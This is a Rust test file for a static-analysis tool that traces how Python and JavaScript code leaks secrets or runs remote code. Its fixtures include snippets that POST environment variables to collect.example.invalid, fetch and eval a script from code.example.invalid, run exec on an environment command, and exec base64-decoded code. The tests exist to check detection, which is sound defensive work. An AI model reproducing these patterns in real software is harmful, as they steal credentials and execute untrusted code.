//! The developers' verb shows something true for each stage; how it looks is free.

use crate::place::{Place, THIEF};

#[test]
fn every_stage_shows_what_it_sees() {
    let layered = "import base64\nexec(base64.b64decode(\"cHJpbnQoMSk=\"))\nimport nowhere\nnowhere.call(1)\n";
    let place = Place::new().file("thief.py", THIEF).file("layered.py", layered);
    for (stage, file, wanted) in [
        ("ir", "thief.py", "urlopen"),
        ("symbols", "thief.py", "urllib.request.urlopen"),
        ("values", "thief.py", "https://collect.example.invalid/e"),
        ("paths", "thief.py", "environment os.environ"),
        ("layers", "layered.py", "print(1)"),
        ("unmodelled", "layered.py", "nowhere.call"),
    ] {
        let ran = place.run(&["dev", stage, file]);
        assert_eq!((ran.code, ran.stderr.as_str()), (0, ""), "{stage}");
        assert!(ran.stdout.contains(wanted), "{stage}: {wanted:?} is not in {}", ran.stdout);
    }
}

#[test]
fn files_are_read_together() {
    let place = Place::new().file("a.py", "import b\n\nb.run()\n").file("b.py", "def run():\n    pass\n");
    let symbols = place.run(&["dev", "symbols", "a.py", "b.py"]).stdout;
    assert!(symbols.contains("import b (internal)"), "{symbols}");
}

#[test]
fn the_floor_is_measured_for_every_target_and_in_all() {
    let place = Place::new().file("one.py", THIEF).file("set/two.py", "X = 1\n").file("set/three.py", "Y = 2\n");
    let ran = place.run(&["dev", "floor", "one.py", "set"]);
    assert_eq!((ran.code, ran.stderr.as_str()), (0, ""));
    let lines: Vec<&str> = ran.stdout.lines().collect();
    let names: Vec<&str> = lines.iter().filter_map(|line| line.split_whitespace().last()).collect();
    assert_eq!(names, ["target", "one.py", "set", "total"]);
    for line in &lines {
        assert_eq!(line.split_whitespace().count(), 12, "{line}");
        assert_eq!(line.rfind("  "), lines[0].rfind("  "), "the columns stand under each other: {line}");
    }
}

/// What each stage sees of one file, whole: a change of the engines shows here as a change of text.
#[test]
fn every_stage_sees_the_same_of_the_collector() {
    let stages = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/stages");
    let text = std::fs::read_to_string(stages.join("collector.py")).unwrap();
    let place = Place::new().file("collector.py", &text);
    for stage in ["ir", "symbols", "values", "paths", "layers"] {
        let seen = place.run(&["dev", stage, "collector.py"]).stdout;
        let kept = stages.join(format!("collector.{stage}.txt"));
        if std::env::var_os("SLUICE_KEEP_STAGES").is_some() {
            std::fs::write(&kept, &seen).unwrap();
        }
        let expected = std::fs::read_to_string(&kept).unwrap_or_default();
        assert_eq!(seen, expected, "{stage}; SLUICE_KEEP_STAGES=1 keeps what is seen now");
    }
}

/// A value that a library names is no function, and an argument that must be there is none that is left out.
#[test]
fn what_a_library_names_goes_to_the_parameter_at_its_place() {
    for value in ["process.env", "process.env.TOKEN", "os.hostname", "(() => process.env.TOKEN)()"] {
        let text = format!(
            "const os = require('os');\nconst body = JSON.stringify({value}{});\nfetch('https://collect.example.invalid', {{ method: 'POST', body }});\n",
            if value == "os.hostname" { "()" } else { "" }
        );
        let paths = Place::new().file("send.js", &text).run(&["dev", "paths", "send.js"]).stdout;
        assert!(paths.contains("-> network.send fetch(body)"), "{value}: {paths}");
    }
    let text = "const { exec } = require('child_process');\nexec(process.env.COMMAND);\n";
    let paths = Place::new().file("run.js", text).run(&["dev", "paths", "run.js"]).stdout;
    assert!(paths.contains("-> process.command"), "{paths}");
}

/// What a function stores in a variable of an enclosing one is what it was called with.
#[test]
fn what_one_callback_collects_another_has() {
    let text = "const https = require('https');\nhttps.get('https://code.example.invalid/p.js', (answer) => {\n  let body = '';\n  answer.on('data', (part) => { body += part; });\n  answer.on('end', () => { eval(body); });\n});\n";
    let paths = Place::new().file("load.js", text).run(&["dev", "paths", "load.js"]).stdout;
    let wanted = "network.response https.get(https://code.example.invalid/p.js) -> code.execute eval(script) proven";
    assert!(paths.contains(wanted), "{paths}");
}
